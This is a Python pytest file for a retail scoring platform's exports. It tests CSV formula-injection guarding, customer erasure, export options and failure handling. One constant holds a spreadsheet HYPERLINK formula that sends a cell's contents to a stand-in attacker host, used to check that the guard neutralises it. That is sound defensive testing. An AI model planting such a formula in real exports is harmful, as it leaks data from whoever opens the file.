"""Exports: nothing in them runs, nothing in them outlives an erasure, and readers never see half of one."""

import csv
import hashlib
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from nextbasket_assets.lake.erasure import erase_customer, holding
from nextbasket_assets.lake.exports import current, place
from nextbasket_tests.faults import shop
from nextbasket_tests.faults.test_privacy import GONE, NEIGHBOUR
from nextbasket_tests.platforms import Platform, failure

WEEK = shop.AS_OF
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"oat milk")'


def export(platform: Platform, **options: Any) -> dict[str, Any]:
    """Run the export of the shop's newest scored week again; its manifest."""
    config = {"score_exports": {"config": options}} if options else {}
    result = platform.run("refresh_weeks", WEEK, selection=["score_exports"], config=config)
    assert result.success, failure(result)
    manifest = current(platform.lake, WEEK)
    assert manifest is not None
    return manifest


def folder(platform: Platform, manifest: dict[str, Any]) -> Path:
    return Path(platform.lake.uri(place(WEEK, manifest["folder"])))


def names(path: Path, item: str) -> set[str]:
    with path.open(newline="") as stream:
        return {row["item_name"] for row in csv.DictReader(stream) if row["item"] == item}


def test_s1_a_spreadsheet_runs_no_product_name(trained: Platform) -> None:
    """A formula in products.csv arrives with an apostrophe in CSV, as it is in parquet, and as it is with the guard off."""
    item = trained.rows("next_basket_scores", WEEK)[0]["item"]
    with (trained.root / "landing" / "products.csv").open("w", newline="") as stream:
        csv.writer(stream).writerows([["PROD_CODE", "PROD_NAME"], [item, FORMULA]])
    guarded, plain = (folder(trained, export(trained)), folder(trained, export(trained, csv_guard=False)))

    assert not guarded.exists(), "the export that was replaced is gone"
    rows = pq.read_table(plain / "scores_long.parquet").to_pylist()
    assert {row["item_name"] for row in rows if row["item"] == item} == {FORMULA}
    assert names(plain / "scores_long.csv", item) == {FORMULA}
    assert names(folder(trained, export(trained)) / "scores_long.csv", item) == {"'" + FORMULA}


def test_s4_an_erased_customer_leaves_the_exports(trained: Platform) -> None:
    """No file of an export holds the customer; the others keep every row; manifest and table fit the new files."""
    stray = trained.root / "lake" / place(WEEK, "deadbeef-00000000") / "scores_long.csv"
    before = export(trained)
    kept = rows_of_others(trained, before)
    stray.parent.mkdir()
    stray.write_text(f"{GONE},left by a killed run\n")
    receipt = erase_customer(trained.lake, GONE, "run")
    after = current(trained.lake, WEEK)

    assert after is not None
    assert holding(trained.lake, GONE) == []
    assert receipt.rows["exports"] == before["counts"]["rows"] - after["counts"]["rows"] + 1
    assert any(path.endswith("deadbeef-00000000/scores_long.csv") for path in receipt.deleted["exports"])
    assert after["counts"]["customers"] == before["counts"]["customers"] - 1
    assert after["settings"] == before["settings"]
    assert rows_of_others(trained, after) == kept
    assert any(row["customer"] == NEIGHBOUR for row in kept)
    recorded = {row["file"]: row["sha256"] for row in trained.rows("score_exports", WEEK)}
    for file in after["files"]:
        content = (folder(trained, after) / file["file"]).read_bytes()
        assert GONE.encode() not in content
        assert hashlib.sha256(content).hexdigest() == file["sha256"] == recorded[file["file"]]


def rows_of_others(platform: Platform, manifest: dict[str, Any]) -> list[dict[str, Any]]:
    files = [folder(platform, manifest) / f"scores_{form}.parquet" for form in ("long", "wide")]
    rows = [row for path in files for row in pq.read_table(path).to_pylist()]
    return [row for row in rows if row["customer"] != GONE]


def test_an_export_follows_the_landing_folders_options(trained: Platform) -> None:
    """export.yaml and the list that it names hold for every run; the launchpad changes what it gives."""
    landing = trained.root / "landing"
    item = trained.rows("next_basket_scores", WEEK)[0]["item"]
    (landing / "export.yaml").write_text("k: 3\nexclude: no_alcohol.txt\ncampaign: spring\nholdout_share: 0.5\n")
    (landing / "no_alcohol.txt").write_text(f"{item}\nPRDTYPO\n")
    manifest = export(trained)
    changed = export(trained, k=2)

    assert manifest["settings"] | {"exclude": None} == {
        **{"length": "fixed", "k": 3, "shortest": 3, "allow": None, "exclude": None},
        **{"campaign": "spring", "holdout_share": 0.5, "csv_guard": True},
    }
    assert manifest["unknown_items"]["exclude"] == {"count": 1, "first": ["PRDTYPO"]}
    assert manifest["counts"]["rows_removed_by_exclude"] > 0
    rows = pq.read_table(folder(trained, changed) / "scores_long.parquet").to_pylist()
    assert max(row["rank"] for row in rows) == 2
    assert item not in {row["item"] for row in rows}


def test_a_failed_export_leaves_the_last_good_one(trained: Platform) -> None:
    """A list that export.yaml names and nobody delivered: the run says so, and the files stay as they were."""
    before = export(trained)
    (trained.root / "landing" / "export.yaml").write_text("allow: vegan.txt\n")
    result = trained.run("refresh_weeks", WEEK, selection=["score_exports"])

    assert not result.success
    assert "export.yaml names 'vegan.txt', which is not in the landing folder. Put it there." in failure(result)
    assert current(trained.lake, WEEK) == before
    assert {path.name for path in folder(trained, before).parent.iterdir()} == {"manifest.json", before["folder"]}
    assert json.loads((folder(trained, before) / "manifest.json").read_text())["files"] == before["files"]


@pytest.mark.parametrize("table", ["next_basket_scores", "next_trip_outlook"])
def test_every_scored_customer_is_exported(trained: Platform, table: str) -> None:
    """The weekly job exports what it scored: as many customers, no row less."""
    manifest = export(trained)

    assert manifest["counts"]["customers"] == len({row["customer"] for row in trained.rows(table, WEEK)})
    assert manifest["counts"]["rows"] == len(trained.rows("next_basket_scores", WEEK))
